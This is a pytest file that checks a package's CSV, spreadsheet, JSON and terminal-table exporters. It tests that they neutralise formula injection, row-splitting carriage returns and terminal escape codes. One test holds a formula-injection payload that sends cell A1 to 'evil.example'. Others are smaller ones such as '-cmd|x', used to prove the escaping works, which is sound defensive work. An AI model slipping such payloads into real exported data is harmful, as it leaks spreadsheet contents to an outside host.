"""CSV, JSON and tables contain exactly the frame's values."""

import csv
import io
import json

import pandas as pd
import pytest

from stances.exchange.csv import csv_text, spreadsheet_text
from stances.exchange.json import json_text
from stances.exchange.terminal import table_text
from stances.model.records import Author
from stances.tables.rows import SourceRow, frame_of

FRAME = pd.DataFrame(
    {
        "id": ["a", "b"],
        "position": pd.array([-2, None], dtype="Int8"),
        "day": pd.Series(["2024-11-17", None], dtype="datetime64[s]"),
        "sure": [True, False],
        "text": ["=1+1", 'say "no", then\nleave'],
    }
)


def test_csv_reads_back_as_it_was() -> None:
    first, second = csv.DictReader(io.StringIO(csv_text(FRAME)))
    assert first == {
        "id": "a", "position": "-2", "day": "2024-11-17", "sure": "True", "text": "=1+1",
    }  # fmt: skip
    assert second["position"] == second["day"] == ""
    assert second["text"] == 'say "no", then\nleave'


def test_csv_for_a_program_alters_no_text() -> None:
    texts = ["-2", "-cmd|x", "@sum", "\t=1", "\r=1", "a\r=1\r\nb", "", "x, y", '"']
    text = csv_text(pd.DataFrame({"x": texts, "n": [-1.5] * len(texts)}))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["x", "n"], *([each, "-1.5"] for each in texts)]


def test_csv_for_a_spreadsheet_begins_with_a_mark_and_keeps_numbers() -> None:
    frame = pd.DataFrame({"x": ["-2", "+1", "-1.5e-3", "Radosław"], "n": [-2, -0.5, 1, 0]})
    assert spreadsheet_text(frame) == "\ufeffx,n\n-2,-2.0\n+1,-0.5\n-1.5e-3,1.0\nRadosław,0.0\n"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\r=", "＝", "-1_"])
def test_csv_for_a_spreadsheet_runs_no_formula(start: str) -> None:
    text = spreadsheet_text(pd.DataFrame({"x": [f"{start}1+1"]}))
    assert list(csv.reader(io.StringIO(text[1:], newline=""))) == [["x"], [f"'{start}1+1"]]


def test_no_carriage_return_in_a_text_begins_a_row() -> None:
    hostile = 'Ann\r=HYPERLINK("http://evil.example/?"&A1,"total"),,'
    text = spreadsheet_text(pd.DataFrame({"a": [hostile], "b": ["B\r\n=1"]}))
    assert text == '\ufeffa,b\n"' + hostile.replace('"', '""') + '","B\r\n=1"\n'


def test_several_authors_stand_in_one_cell_as_they_are_read() -> None:
    rows = [SourceRow("s", author=(Author(family="Doe", given="Jane"), Author(name="NATO")))]
    text = csv_text(frame_of(rows, SourceRow))
    assert next(csv.DictReader(io.StringIO(text)))["author"] == "Jane Doe; NATO"


def test_json_has_nulls_and_real_numbers() -> None:
    first, second = json.loads(json_text(FRAME))
    assert first["position"] == -2
    assert second["position"] is None
    assert second["day"] is None
    assert second["sure"] is False


def test_a_table_is_aligned_and_clipped() -> None:
    lines = table_text(pd.DataFrame({"a": ["x" * 60], "b": [None]})).splitlines()
    assert lines[2] == "x" * 43 + "…"
    assert len(set(map(len, lines[1:2]))) == 1


def test_an_empty_frame_is_its_header() -> None:
    assert csv_text(FRAME.iloc[:0]) == "id,position,day,sure,text\n"
    assert json_text(FRAME.iloc[:0]) == "[]\n"
    assert table_text(FRAME.iloc[:0]).splitlines()[0].split() == list(FRAME.columns)


def test_a_cell_commands_no_terminal_and_stays_in_its_row() -> None:
    text = table_text(pd.DataFrame({"a": ["x\x1b[31mred\u202e", "two\nlines"]}))
    assert text.splitlines()[2:] == [
        r"x\u001b[31mred\u202e",
        r"two\nlines",
    ]
